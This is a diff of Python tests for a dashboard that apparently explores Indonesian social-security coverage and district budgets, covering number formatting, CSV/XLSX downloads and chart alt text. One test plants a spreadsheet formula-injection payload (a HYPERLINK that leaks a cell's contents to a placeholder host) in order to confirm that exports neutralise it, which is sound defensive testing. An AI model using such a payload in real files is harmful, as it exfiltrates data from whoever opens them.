@@ -148,7 +148,7 @@ def _rupiah_full(n: int, lang: str) -> str:
 @slow
 def test_budget_tab_reads_the_cost_in_the_pages_language(explorer):
     explorer.workers.value, explorer.months.value = 5_000, 12
-    for lang, short in (("en", "Rp 1.008 bn"), ("id", "Rp1,008 M")):
+    for lang, short in (("en", "Rp 1.01 bn"), ("id", "Rp1,01 M")):  # the report's rule: two decimals at most
         explorer.language.value = lang
         v = explorer.view("budget")
         assert _rupiah_full(1_008_000_000, lang) in v.lines[0] and short in v.lines[0]
@@ -166,22 +166,128 @@ def test_language_toggle_switches_every_label(explorer):
     assert explorer.tabs.titles[3] == "Budget planner" and explorer.workers.description == "Additional workers"
 
 
-@slow
-def test_coverage_headline_and_download_match_the_table(explorer, minahasa):
-    from ucj.presentation.explore import download_links
-    from ucj.presentation.i18n import fmt_pct
+def _downloads(links: str) -> dict[str, bytes]:
+    """The files behind the two download links (their data: URIs), by extension."""
+    found = re.findall(r'download="ucj_[\w-]+\.(\w+)" href="data:[^;]+;base64,([^"]+)"', links)
+    return {ext: base64.b64decode(data) for ext, data in found}
 
+
+def _sheet(data: bytes, name: str):  # type: ignore[no-untyped-def]
+    from openpyxl import load_workbook
+
+    return load_workbook(io.BytesIO(data))[name]
+
+
+@slow
+def test_coverage_headline_and_download_match_the_analysis(explorer, minahasa):
+    """The indicator table shows each value by the report's rule with its unit ("17.8 %", never "17.82"),
+    and the downloads hold the analysis layer's numbers: CSV as plain numbers, XLSX as numbers with the
+    report's number formats (as tables.xlsx)."""
+    from ucj.presentation.explore import download_links
+    from ucj.presentation.i18n import XL_FORMATS, fmt_pct
+
+    explorer.tabs.selected_index = 0
     v = explorer.view("coverage")
     assert f"Coverage of Kabupaten Minahasa: {minahasa.coverage_pct:.1f} % ({minahasa.coverage_as_of:%Y-%m}," \
         in v.lines[0]
     assert fmt_pct(minahasa.coverage_pct, "en") == f"{minahasa.coverage_pct:.1f} %"
-    links = download_links(v.table, v.name, "en")
-    uris = dict(re.findall(r'download="ucj_coverage\.(\w+)" href="data:[^;]+;base64,([^"]+)"', links))
-    csv = pd.read_csv(io.BytesIO(base64.b64decode(uris["csv"])), dtype=str, keep_default_na=False)
-    assert csv.values.tolist() == v.table.astype(str).values.tolist()
+    shown = v.table.set_index("Indicator")
+    assert shown.loc["Coverage", "Value"] == f"{minahasa.coverage_pct:.1f} %"  # issue 21: no bare "17.82"
+    assert shown.loc["Coverage", "Rank"] == str(int(minahasa.peers.set_index("indicator").loc["coverage_pct", "rank"]))
+    files = _downloads(download_links(v.data, v.name, "en"))
+    csv = pd.read_csv(io.BytesIO(files["csv"]))
     assert list(csv.columns) == list(v.table.columns)
-    xlsx = pd.read_excel(io.BytesIO(base64.b64decode(uris["xlsx"])), dtype=str, keep_default_na=False)
-    assert xlsx.values.tolist() == v.table.astype(str).values.tolist()
+    peers = minahasa.peers.reset_index(drop=True)
+    assert csv["Value"].tolist() == pytest.approx(peers["value"].tolist())
+    assert csv["Province"].tolist() == pytest.approx(peers["province"].tolist())
+    ws = _sheet(files["xlsx"], "coverage")
+    header = [c.value for c in ws[1]]
+    assert header == list(v.table.columns)
+    value = header.index("Value") + 1
+    cov = ws.cell(2, value)
+    assert cov.value == pytest.approx(minahasa.coverage_pct) and cov.number_format == XL_FORMATS["pct"]
+    assert isinstance(ws.cell(2, header.index("Rank") + 1).value, int)
+
+
+@slow
+def test_budget_download_read_back_with_openpyxl_gives_the_analysis_numbers(explorer, minahasa):
+    """Issue 21: the budget table's download holds numbers equal to the analysis layer's (budget_plan),
+    each with its unit's number format; the CSV holds the same numbers."""
+    from ucj.analysis.explore import budget_plan
+    from ucj.presentation.explore import download_links
+    from ucj.presentation.i18n import XL_FORMATS
+
+    explorer.district.value = MINAHASA
+    explorer.workers.value, explorer.months.value, explorer.tariff.value = 7_500, 18, 17_000
+    year = explorer.target_year.value
+    v = explorer.view("budget")
+    plan = budget_plan(minahasa, 7_500, 18, 17_000, year)  # the analysis layer, called here directly
+    expected = {"Additional workers": (7_500, "count"), "Months": (18, "count"),
+                "APBD cost": (7_500 * 18 * 17_000, "rp"),  # Rp 2,295,000,000 by hand
+                "Coverage after": (plan.scenario["coverage_after_pct"], "pct"),
+                "Expected JKM claims": (plan.expected_jkm_claims_rp, "rp"),
+                "Net additional workers a month": (plan.net_per_month, "count"),
+                "Cost a year": (plan.cost_per_year_rp, "rp")}
+    files = _downloads(download_links(v.data, v.name, "en", [["note", "x"]], True))
+    ws = _sheet(files["xlsx"], "budget")
+    rows = {ws.cell(r, 1).value: ws.cell(r, 2) for r in range(2, ws.max_row + 1)}
+    csv = pd.read_csv(io.BytesIO(files["csv"])).set_index("Quantity")["Value"]
+    for label, (number, kind) in expected.items():
+        cell = rows[label]
+        assert isinstance(cell.value, (int, float)) and cell.value == pytest.approx(number), label
+        assert cell.number_format == XL_FORMATS[kind], label
+        assert float(csv[label]) == pytest.approx(number), label
+    assert rows["APBD cost"].value == 2_295_000_000 and isinstance(rows["APBD cost"].value, int)
+    assert plan.scenario["cost_rp"] == 2_295_000_000
+    explorer.workers.value, explorer.months.value, explorer.tariff.value = 5_000, 12, 16_800
+
+
+@slow
+def test_a_formula_from_a_data_source_is_text_in_both_downloads(demo_ds):
+    """Issue 24.9: a poverty source column holding =HYPERLINK(...) downloads as text, never a formula: the
+    XLSX cell is a string with Excel's quote prefix (the report's writer), the CSV cell starts with '."""
+    from ucj.presentation.explore import download_links, poverty_view
+
+    fig = district_figures(demo_ds, BOALEMO, denominator="working_population")
+    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"BPS")'
+    fig.poverty = fig.poverty.assign(source=evil)
+    v = poverty_view(demo_ds, fig, "en")
+    files = _downloads(download_links(v.data, v.name, "en"))
+    ws = _sheet(files["xlsx"], "poverty")
+    col = [c.value for c in ws[1]].index("Source") + 1
+    cell = ws.cell(2, col)
+    assert cell.value == evil and cell.data_type == "s" and cell.quotePrefix
+    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
+    csv = pd.read_csv(io.BytesIO(files["csv"]), dtype=str)
+    assert set(csv["Source"]) == {"'" + evil}
+
+
+@slow
+def test_charts_carry_alt_text_and_the_stamp_sits_on_its_chart(demo_ds, minahasa):
+    """Every chart has alt text naming what it shows, in the page's language; the synthetic stamp is drawn
+    inside the chart's image, in its title row (above the axes, within the figure)."""
+    from matplotlib.backends.backend_agg import FigureCanvasAgg
+
+    from ucj.presentation.explore import (compare_view, coverage_chart, coverage_view, figure_html,
+                                          poverty_view)
+    from ucj.presentation.i18n import t
+
+    for lang in ("id", "en"):
+        views = [coverage_view(demo_ds, minahasa, "all", lang), poverty_view(demo_ds, minahasa, lang),
+                 compare_view(demo_ds, [MINAHASA, BOALEMO], "working_population", lang)]
+        for v in views:
+            assert v.chart and len(v.alt) > 30
+            assert f'alt="{v.alt}"' in figure_html(v.chart, v.alt).replace("&#x27;", "'")
+        assert "Kabupaten Minahasa" in views[0].alt and "Kabupaten Boalemo" in views[2].alt
+    fig = coverage_chart(coverage_against(demo_ds, minahasa), minahasa, "all", "en", True)
+    FigureCanvasAgg(fig)
+    fig.set_layout_engine("none")
+    renderer = fig.canvas.get_renderer()
+    stamp = [x for x in fig.axes[0].texts + [fig.axes[0]._right_title] if x.get_text() == t("synthetic_stamp", "en")]
+    assert len(stamp) == 1
+    box, frame, axes = stamp[0].get_window_extent(renderer), fig.bbox, fig.axes[0].get_window_extent(renderer)
+    assert frame.x0 <= box.x0 and box.x1 <= frame.x1 and frame.y0 <= box.y0 and box.y1 <= frame.y1
+    assert box.y0 >= axes.y1 - 1 and box.x1 <= axes.x1 + 1  # the title row, right-aligned over the axes
 
 
 @slow
